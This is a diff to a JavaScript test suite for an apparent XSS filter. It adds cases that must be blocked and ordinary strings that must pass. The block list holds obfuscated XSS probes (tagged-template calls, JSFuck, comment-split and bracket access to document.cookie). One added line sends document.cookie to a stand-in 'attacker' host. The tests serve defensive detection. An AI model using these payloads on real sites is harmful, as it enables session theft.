@@ -85,6 +85,8 @@ describe("xss: attacks are blocked", () => {
     ["probe passed as a value", "[1].find(alert)"],
     ["global indexed with concatenated name", 'top["al"+"ert"](1)'],
     ["call through a tagged template", "[].sort.call`${alert}1337`"],
+    ["a probe called through a tagged template", "alert.call`1`"],
+    ["the cookie interpolated through this", "`http://attacker?cookie=${this.document.cookie}`"],
     ["document.cookie hidden by comments", "document /*x*/ . /*y*/ cookie"],
     ["cookie read via bracket access", '(document)["cookie"]'],
     ["JSFuck", "(![]+[])[+!+[]]+(![]+[])[+[]]"],
@@ -191,6 +193,12 @@ describe("xss: ordinary input passes", () => {
     ["closing tags of a pasted page", "<textarea>notes</textarea></form>\n<style>p { color: red }</style>\n</body>"],
     ["an ordinary base64 token", "PGRpdj5IZWxsbyB3b3JsZDwvZGl2Pg=="],
     ["a URL with a query string", "https://example.com/notes/12?ref=feed&utm_source=newsletter"],
+    [
+      "a changelog line naming a method in a code span",
+      "- [Refactor] use `Object.prototype.hasOwnProperty.call` [`df3c1e6`](https://github.com/form-data/form-data/commit/df3c1e6)",
+    ],
+    ["a template literal of a method", "  return `Hello ${this.name}, here's your message: ${message}`"],
+    ["a template literal of a variable", "  var text = `job ${name}`"],
   ])("%s", (_name, value) => {
     expect(query(value).action, value).toBe("allow");
   });
